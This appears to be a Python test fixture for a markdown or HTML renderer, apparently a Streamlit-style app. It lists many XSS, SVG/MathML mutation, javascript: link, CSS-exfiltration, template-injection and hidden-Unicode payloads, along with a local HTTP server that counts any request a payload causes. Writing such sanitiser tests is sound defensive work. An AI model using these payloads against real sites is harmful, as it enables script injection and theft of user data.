"""Texts that try to run, load, link, hide or deceive. Each contains the word of its place, so that a test can tell
that it is still readable. `{at}` is an address that counts every request it gets."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src={at}/a.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script type=module>import '{at}/m.js'</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "`${alert(1)}`",
    "</style><script>alert(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src={at}/x onerror=alert(1)//>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onmouseover=alert(1)>x</a>",
    "<div onpointerenter=alert(1)>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1) data=x></object>",
    "<form onsubmit=alert(1)><button>x</button></form>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<x contenteditable onfocus=alert(1) tabindex=1 autofocus>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
)
SVG = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href={at}/i.svg onload=alert(1)></svg>",
    "<svg><use href='{at}/u.svg#x'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><img src={at}/f></foreignObject></svg>",
    "<svg><style>@import '{at}/s.css'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
)
ADDRESSES = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a href={at}/l ping={at}/p>x</a>",
    "<base href={at}/>",
    "<meta http-equiv=refresh content='0;url={at}/m'>",
    "<form action={at}/f><input type=submit></form>",
    "<iframe src={at}/i></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data={at}/o></object>",
    "<embed src={at}/e>",
    "<portal src={at}/p></portal>",
    "<link rel=prefetch href={at}/l>",
    "<link rel=dns-prefetch href={at}>",
    "<a href='//{host}/x'>x</a>",
    "[x](//{host}/x)",
    "<{at}/auto>",
    "{at}/bare",
    "[x]: {at}/ref 'title'",
)
IMAGES = (
    "![x]({at}/1.png)",
    "![x]({at}/1.png?q=secret 'title')",
    "![x][r]\n\n[r]: {at}/2.png",
    "[![x]({at}/3.png)]({at}/4)",
    "|a|b|\n|-|-|\n|![x]({at}/5.png)|y|",
    "- ![x]({at}/6.png)",
    "> ![x]({at}/7.png)",
    "# ![x]({at}/8.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](//{host}/9.png)",
    "![x](javascript:alert(1))",
    "<img src={at}/10.png>",
    "<img srcset='{at}/11.png 2x'>",
    "<picture><source srcset={at}/12.png><img></picture>",
    "<video poster={at}/13.png>",
    "<input type=image src={at}/14.png>",
    "<table background={at}/15.png><tr><td>x</table>",
    "![x](<{at}/16.png>)",
    "!\\[x]({at}/17.png)",
)
STYLES = (
    "<style>@import url({at}/a.css)</style>",
    "<style>*{{background:url({at}/b)}}</style>",
    "<link rel=stylesheet href={at}/c.css>",
    '<p style="background:url({at}/d)">x</p>',
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<style>.rv-form{{display:none}}</style>",
    "<style>@font-face{{font-family:x;src:url({at}/e)}}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>input[value^=a]{{background:url({at}/f)}}</style>",
    "<p class=rv-answer>x</p>",
    "<p id=rv-note>x</p>",
    "<a name=body id=forms>x</a>",
    "<dialog open class=rv-dialog>x</dialog>",
)
LATEX = (
    r"$\href{{javascript:alert(1)}}{{x}}$",
    r"$$\includegraphics{{{at}/l.png}}$$",
    r"$\url{{{at}/u}}$",
    r"\(\htmlStyle{{color:red}}{{x}}\)",
    r"$\require{{action}}\toggle{{x}}{{y}}\endtoggle$",
    r"$\def\x{{\x\x}}\x$",
    r"\begin{{equation}}\unicode{{x3c}}\end{{equation}}",
)
DIRECTIVES = (
    ":material/home:",
    ":red[x]",
    ":red-background[x]",
    ":rainbow[x]",
    ":image[{at}/d.png]",
    ":streamlit:",
    ":small[x]",
    ":green-badge[x]",
    "st.markdown('<b>x</b>', unsafe_allow_html=True)",
    "{{{{ 7*7 }}}}",
    "${{7*7}}",
    "<%= 7*7 %>",
    "#{{7*7}}",
    "{{% include 'x' %}}",
    "{{{{constructor.constructor('alert(1)')()}}}}",
    "%s%s%n",
    "{{0.__class__}}",
    "[[${{7*7}}]]",
)
MARKDOWN = (
    '```html"><script>\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&NewLine;&Tab;",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '[x](https://a" onmouseover="alert(1))',
    "[a](b)<img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "[[[[[[[[[[[[[[[[[[[[",
    "*_*_*_*_*_*_*_*_*_",
    "<kbd onclick=alert(1)>chip</kbd>",
    "[kb-1](javascript:alert(1))",
    "⟦image/png, 1 kB⟧<img src=x onerror=alert(1)>",
    "1. <script>\n2. </script>",
    "\\<script>alert(1)\\</script>",
    "[^1]: <script>alert(1)</script>",
    "~~<svg onload=alert(1)>~~",
    "***\n<script>alert(1)</script>\n***",
)
UNSEEN = (
    "price \u202e001 ot pu",
    "\u202dleft\u202c",
    "\u2066in\u2069 \u2067side\u2069 \u2068first\u2069",
    "\u2069\u2069 loose ends",
    "sc\u200bript",
    "zero\u200c\u200dwidth",
    "\ufeffmark",
    "word\u2060joiner",
    "a\u00adb",
    "\u200f\u200e marks",
    "say \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 this",
    "a\ufe01\ufe02\ufe03",
    "x\U000e0101\U000e0102",
    "bell \x07 escape \x1b[31m red",
    "back\x08space",
    "form\x0cfeed",
    "\x7fdelete\x85next",
    "line\u2028paragraph\u2029",
    # Marks piled on one letter.
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c a \u0337 l",
    "аррӏе.com",
    "\u3164filler\u115f",
    "\ud7fb\ue000\uf8ff private",
    # A family and the flag of Scotland: joiners and tags that belong.
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "نمی\u200cخواهم",
    "مرحبا <script>alert(1)</script> بالعالم",
)
GIANT = (
    "x" * 30_000,
    "word " * 5_000,
    "[" * 5_000,
    "> " * 2_000 + "x",
    "<b>" * 3_000,
    "\n" * 3_000 + "end",
    "\u202e" * 500,
)

GROUPS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "svg": SVG,
    "address": ADDRESSES,
    "image": IMAGES,
    "style": STYLES,
    "latex": LATEX,
    "directive": DIRECTIVES,
    "markdown": MARKDOWN,
    "unseen": UNSEEN,
    "giant": GIANT,
}


def payloads(collector: str) -> dict[str, str]:
    """Word -> payload around that word. collector: "http://127.0.0.1:4000", where no request may arrive."""
    host = collector.removeprefix("http://")
    found = {}
    for group, texts in GROUPS.items():
        for number, text in enumerate(texts):
            filled = text.replace("{at}", collector).replace("{host}", host).replace("{{", "{").replace("}}", "}")
            found[f"{group}{number}here"] = filled
    return found


@contextmanager
def collecting() -> Iterator[tuple[str, list[str]]]:
    """An address outside the server's origin, and what arrived there."""
    arrived: list[str] = []

    class Count(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_error(404)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None:
            """Keep the test's output clean."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Count) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", arrived
        server.shutdown()
